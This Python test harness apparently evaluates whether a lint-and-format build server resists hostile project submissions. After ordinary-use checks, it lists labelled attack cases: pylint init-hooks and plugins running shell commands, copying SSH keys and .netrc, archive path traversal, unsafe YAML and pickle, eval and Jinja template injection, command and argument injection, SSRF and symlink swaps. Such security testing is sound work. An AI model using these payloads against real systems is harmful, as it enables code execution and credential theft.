# SPDX-License-Identifier: Apache-2.0
"""pylint, isort, black and pydocstyle over what projects hand in."""
import io
import json
import os
import pickle
import tarfile
import zipfile

from attackers import Bomb, in_yaml
import stage

GOOD = '''"""Orders of {name}."""
import json
import sys


def total(rows):
    """Sum of all rows."""
    return sum(row["cents"] for row in rows)


def main():
    """Reads from standard input."""
    print(total(json.load(sys.stdin)))
'''
BAD = '''import sys, os
from json import *
def f( x,y=[] ):
    unused = 1
    if x == None: return  y
    return os.path.join( "a",x )
class thing:
    def __init__(self, a): self.a=a
'''
ASYNC = '''"""Asks around."""
import asyncio
import dataclasses
import typing


@dataclasses.dataclass
class Peer:
    """Somebody."""

    name: str
    port: typing.Optional[int] = None


async def ask(peer):
    """Waits for an answer."""
    async with asyncio.Lock():
        return peer.name
'''
TESTS = '''import unittest
from unittest import mock


class T(unittest.TestCase):
    def test_it(self):
        with mock.patch("os.getcwd"):
            self.assertTrue(True)
'''
HOUSE = {"__init__.py": '''"""House rules: nobody promises."""
from pylint.checkers import BaseRawFileChecker


class Promises(BaseRawFileChecker):
    """Looks for promises."""

    name = "promises"
    msgs = {"W9901": ("promise", "promise", "Nobody keeps them.")}
    words = ("TODO",)

    def process_module(self, node):
        with node.stream() as stream:
            for number, line in enumerate(stream, 1):
                if any(word.encode() in line for word in self.words):
                    self.add_message("promise", line=number)


def register(linter):
    """Called by pylint."""
    linter.register_checker(Promises(linter))
'''}
HOUSE_NEW = {
    "__init__.py": HOUSE["__init__.py"].replace(
        '("TODO",)', "words.load()").replace(
        "import BaseRawFileChecker\n", "import BaseRawFileChecker\n"
        "from house_pylint import words\n"),
    "words.py": "import importlib.resources\n\n\ndef load():\n"
                "    return importlib.resources.read_text(\n"
                '        "house_pylint", "words.txt").split()\n',
    "words.txt": "TODO\nFIXME\nXXX\n"}
PYPROJECT = """[project]
name = "{name}"

[tool.black]
line-length = 88

[tool.isort]
profile = "black"

[tool.pylint.format]
max-line-length = 88
"""


class PylintFoundry(stage.Program):
    """A small build server that lints and formats (pylint, isort, black)."""
    packages = ["pylint", "isort", "black", "python3-pydocstyle",
                "python3-jinja2", "python3-yaml"]

    def arrange(self):
        for name in ("checkouts", "reports", "archives", "incoming"):
            (self.srv / name).mkdir()
        self.install("house_pylint", "1.4.0", HOUSE)

    def arrange_benign(self):
        self.install("house_pylint", "1.5.0", HOUSE_NEW)

    # ------------------------------------------------------------ ordinary use
    def ci(self, *words):
        return self.run(self.python, "ci.py", *words)

    def expect_ci(self, *words, status=0, found=""):
        self.expect_run(words, self.ci(*words), status, found)

    def pack(self, file, name, files):
        """An archive as people hand it in."""
        path = self.srv / "incoming" / file
        if file.endswith(".zip"):
            with zipfile.ZipFile(path, "w") as archive:
                for inner, text in files.items():
                    archive.writestr(f"{name}/{inner}", text)
            return path
        with tarfile.open(path, "w:" + file.rpartition(".")[2]) as archive:
            for inner, text in files.items():
                data = text if isinstance(text, bytes) else text.encode()
                member = tarfile.TarInfo(f"{name}/{inner}")
                member.size = len(data)
                archive.addfile(member, io.BytesIO(data))
        return path

    def submit(self, file, name, files):
        files = {inner: text.replace("{name}", name) if isinstance(
            text, str) else text for inner, text in files.items()}
        self.expect_ci("submit", self.pack(file, name, files),
                       found="modules")

    def settings(self, *paths, **more):
        return json.dumps({"paths": list(paths), **more})

    def report(self, name, text):
        path = self.srv / "reports" / name / "latest.html"
        self.expect(f"report of {name}",
                    path.exists() and text in path.read_text())

    def chat(self):
        self.site("chat").page("*", "thanks")
        return self.site("chat").url

    def train(self, day):
        chat = self.chat()
        name = ["orders", "ledger", "stock"][day - 1]
        first, second, third = (f"{name}-1.{day}", f"mail_gate-0.{day}.0",
                                f"harbour-202{day}")
        self.submit(f"{first}.tar.gz", first, {
            f"{name}/__init__.py": "", f"{name}/main.py": GOOD,
            f"{name}/old.py": BAD + "# TODO\n", "pyproject.toml": PYPROJECT,
            "LICENSE": "Apache-2.0"})
        top, checks = [("src", "tests"), ("lib", "checks"),
                       ("python", "t")][day - 1]
        self.submit(f"{second}.zip", second, {
            f"{top}/mail_gate/__init__.py": '"""Mail."""\n',
            f"{top}/mail_gate/peers.py": ASYNC,
            f"{top}/mail_gate/v{day}/__init__.py": "",
            f"{top}/mail_gate/v{day}/wire.py": GOOD,
            f"{checks}/test_peers.py": TESTS, "CHANGES.md": "* All of it\n",
            "setup.cfg": "[isort]\nline_length = 99\n[pydocstyle]\n"
                         "convention = pep257\n",
            ".ci.yml": self.settings(top, checks, hooks=["changes"],
                                     limit=f"{day} * 40",
                                     notify=f"{chat}/hooks/{day}a7")})
        tool = ["tool.py", "pack_all.py", "berth.py"][day - 1]
        self.submit(f"{third}.tar.gz", third, {
            "harbour.py": GOOD, tool: BAD,
            ".pylintrc": "[MAIN]\nload-plugins=house_pylint\n"
                         f"[FORMAT]\nmax-line-length=10{day}\n",
            ".ci.yml": self.settings("harbour.py", tool, jobs=2,
                                     title="Harbour of {{ name }}",
                                     hooks=["licence", "changes"],
                                     limit="total - 1")})
        self.expect_ci("check", first, status=1, found="found")
        self.report(first, "reformat")
        self.expect_ci("check", second, found="thanks")
        self.expect_ci("check", third, status=1, found="found")
        self.report(third, "Harbour of")
        self.expect_ci("format", first, found="lines of patch")
        self.expect_ci("format", third, found="lines of patch")
        self.expect_ci("check", first, status=1, found="before")
        self.expect_ci("check", third, "--only",
                       ["black", "pylint", "isort"][day - 1], found="found",
                       status=1)
        torn = f"torn{day}"
        self.submit(f"{torn}.zip", torn, {
            f"torn{day}/__init__.py": "", f"torn{day}/a.py": "def f(:\n",
            "LICENCE.txt": "?"})
        self.expect_ci("check", torn, status=1, found="found")
        self.expect_ci("check", f"nobody-{day}", status=1, found="nobody")
        self.expect_ci("summary", found="projects")
        self.expect_ci("summary", "--since", f"2026-0{day}-01",
                       found="projects")

    def benign(self):
        chat = self.chat()
        self.submit("Büro-Werkzeug v2.0.tar.xz", "Büro-Werkzeug v2.0", {
            "werkzeug/__init__.py": '"""Größen."""\n',
            "werkzeug/maße.py": GOOD, "werkzeug/alt.v2.py": BAD,
            "werkzeug/sub/sub/sub/__init__.py": "",
            "werkzeug/sub/sub/sub/tief.py": ASYNC,
            "werkzeug/typen.pyi": "x: int\n", "werkzeug/daten.json": "{}\n",
            "pyproject.toml": PYPROJECT, "LICENSE.md": "MIT"})
        self.submit("gate-7.tar.gz", "gate-7", {
            "src/gate/__init__.py": "", "src/gate/core.py": BAD,
            "tools/release.py": BAD, "tests/unit/test_core.py": TESTS,
            "CHANGES.md": "* nothing, really\n",
            "setup.cfg": "[isort]\nforce_single_line = true\n",
            "tox.ini": "[pydocstyle]\nconvention = google\n",
            ".ci.yml": self.settings(
                "src", "tools", "tests", hooks=["changes", "licence"],
                limit="500", title="Gate", jobs=4,
                notify=f"{chat}/rooms/builds?token=x%20y")})
        self.submit("single.zip", "single", {
            "one.py": "# -*- coding: latin-1 -*-\nx = '\xe4'\n".encode(
                "latin-1"), "LICENSE": "x",
            ".ci.yml": self.settings("one.py", limit="2 ** 8")})
        self.submit("broken_2026-11-21.tar.gz", "broken_2026-11-21", {
            "broken/__init__.py": "import nothing_there\n",
            "broken/b.py": "x = (\n", "broken/c.py": "\tif:\n \n",
            "broken/d.py": "match x:\n    case 1:\n        pass\n"})
        self.expect_ci("check", "Büro-Werkzeug v2.0", status=1,
                       found="found")
        self.report("Büro-Werkzeug v2.0", "reformat")
        self.expect_ci("check", "gate-7", found="thanks")
        self.report("gate-7", "Gate")
        self.expect_ci("check", "single", found="found")
        self.expect_ci("check", "broken_2026-11-21", status=1, found="found")
        self.expect_ci("format", "Büro-Werkzeug v2.0", found="patch")
        self.expect_ci("format", "gate-7", found="patch")
        self.expect_ci("format", "broken_2026-11-21", found="patch")
        self.expect_ci("check", "Büro-Werkzeug v2.0", status=1,
                       found="before")
        self.expect_ci("check", "gate-7", "--only", "pydocstyle", "--verbose",
                       found="gate-7")
        self.expect_ci("check", "gate-8", status=1, found="nobody")
        self.expect_ci("submit", self.srv / "incoming/none.tar.gz", status=1,
                       found="FileNotFoundError")
        self.expect_ci("summary", found="projects")
        self.expect_ci("summary", "--since", "2031-12-24", found="0 projects")

    def health(self):
        self.submit("orders-1.1.tar.gz", "orders-1.1", {
            "orders/__init__.py": "", "orders/main.py": GOOD,
            "pyproject.toml": PYPROJECT, "LICENSE": "Apache-2.0"})
        self.expect_ci("check", "orders-1.1", found="found", status=1)
        self.report("orders-1.1", "Orders")

    # ----------------------------------------------------------------- attacks
    def hand_in(self, files, name="evil-1"):
        """What somebody hands in is checked; returns what is told."""
        self.ci("submit", self.pack(f"{name}.tar.gz", name, {
            "evil/__init__.py": "", "LICENSE": "x", **files}))
        told = self.ci("check", name)[1]
        report = self.srv / "reports" / name / "latest.html"
        return told + (report.read_text() if report.exists() else "")

    def hooks(self, code):
        """code: statements that pylint's settings run."""
        self.hand_in({".pylintrc": "[MAIN]\ninit-hook="
                      f"exec({code!r})\n".replace("%", "%%")})

    def plugs(self, code):
        """code: statements of a plug-in that the project brings."""
        self.hand_in({"evil_plugin.py": code + "\ndef register(linter):\n"
                      "    pass\n", ".pylintrc":
                      "[MAIN]\ninit-hook=import sys; sys.path.append('.')\n"
                      "load-plugins=evil_plugin\n",
                      ".ci.yml": self.settings(".")})

    @stage.attack("malicious settings")
    def settings_run_a_command(self):
        return self.runs_line(lambda line: self.hooks(
            f"import os; os.system({line!r})"))

    @stage.attack("malicious settings")
    def settings_copy_a_key(self):
        self.hooks(f"open('stolen.py', 'w').write(open("
                   f"'{self.home}/.ssh/id_rsa').read())")
        path = self.srv / "checkouts/evil-1/stolen.py"
        return path.exists() and stage.SECRET in path.read_text()

    @stage.attack("exfiltration")
    def settings_send_credentials(self):
        return self.steals(self.hooks, "~/.netrc")

    @stage.attack("ctypes")
    def settings_call_libc(self):
        return self.runs_libc(self.hooks)

    @stage.attack("malicious plugin")
    def plugin_runs_a_command(self):
        return self.runs_line(lambda line: self.plugs(
            f"import os\nos.system({line!r})\n"))

    @stage.attack("reverse shell")
    def plugin_calls_home(self):
        return self.calls_home(self.plugs)

    @stage.attack("fork+exec")
    def plugin_forks(self):
        return self.forks(self.plugs)

    @stage.attack("write to code", fresh=True)
    def plugin_changes_the_house_rules(self):
        path = self.site_packages / "house_pylint/__init__.py"
        self.plugs(f"open({str(path)!r}, 'a').write('# planted')\n")
        return "# planted" in path.read_text()

    @stage.attack("traversal", fresh=True)
    def archive_replaces_a_profile(self):
        self.hand_in({"../../../home/.bashrc": "planted"})
        return "planted" in (self.home / ".bashrc").read_text()

    @stage.attack("write to code", fresh=True)
    def archive_becomes_a_hook(self):
        return self.runs_line(lambda line: self.hand_in({
            "../../hooks/evil.py": f"import os\nos.system({line!r})\n",
            ".ci.yml": self.settings(".", hooks=["evil"])}))

    @stage.attack("write to start-up file", fresh=True)
    def archive_becomes_a_pth_file(self):
        self.hand_in({"../../../venv/lib/python3.11/site-packages/x.pth":
                      "import os"})
        return (self.site_packages / "x.pth").exists()

    @stage.attack("unsafe yaml")
    def settings_are_an_object(self):
        return self.runs_line(lambda line: self.hand_in({
            ".ci.yml": in_yaml(f"import os; os.system({line!r})")}))

    @stage.attack("unsafe pickle")
    def cache_runs_a_command(self):
        return self.runs_line(lambda line: self.hand_in({
            ".ci-cache": pickle.dumps(Bomb(os.system, line))}))

    @stage.attack("eval injection")
    def limit_reads_a_key(self):
        self.hand_in({".ci.yml": self.settings(
            ".", limit=f"open('stolen', 'w').write(open("
            f"'{self.home}/.ssh/id_rsa').read())")})
        path = self.srv / "stolen"
        return path.exists() and stage.SECRET in path.read_text()

    @stage.attack("template injection")
    def title_reads_a_password(self):
        return stage.SECRET in self.hand_in({".ci.yml": self.settings(
            ".", title="{{ cycler.__init__.__globals__.__builtins__"
            f".open('{self.home}/.netrc').read() }}}}")})

    @stage.attack("command injection")
    def path_runs_a_command(self):
        return self.runs_line(lambda line: self.hand_in({
            ".ci.yml": self.settings(f".; {line};")}))

    @stage.attack("argument injection", fresh=True)
    def path_is_an_option(self):
        self.hand_in({".ci.yml": self.settings(
            f"--output={self.site_packages}/x.pth", "evil"),
            "evil/a.py": BAD})
        return (self.site_packages / "x.pth").exists()

    @stage.attack("traversal")
    def path_is_the_payroll(self):
        return stage.SECRET in self.hand_in({".ci.yml": self.settings(
            str(self.place / "payroll/2026.csv"))})

    @stage.attack("SSRF")
    def notice_goes_to_an_internal_service(self):
        return self.fetches_inside(lambda url: self.hand_in({
            ".ci.yml": self.settings(".", notify=url)}))

    @stage.attack("SSRF")
    def notice_is_redirected_inside(self):
        self.chat()
        return self.is_redirected_inside("chat", lambda url: self.hand_in({
            ".ci.yml": self.settings(".", notify=url)}))

    @stage.attack("symlink swap", fresh=True)
    def module_is_a_link(self):
        path = self.pack("evil-1.tar.gz", "evil-1", {
            "evil/__init__.py": "", "LICENSE": "x"})
        self.ci("submit", path)
        (self.srv / "checkouts/evil-1/evil/pay.py").symlink_to(
            self.place / "payroll/2026.csv")
        self.ci("check", "evil-1")
        return stage.SECRET in (
            self.srv / "reports/evil-1/latest.html").read_text()

    @stage.attack("malicious dependency", fresh=True)
    def house_rules_steal_credentials(self):
        return self.dependency_steals(
            "house_pylint", "1.4.1", HOUSE, lambda: self.hand_in({}))
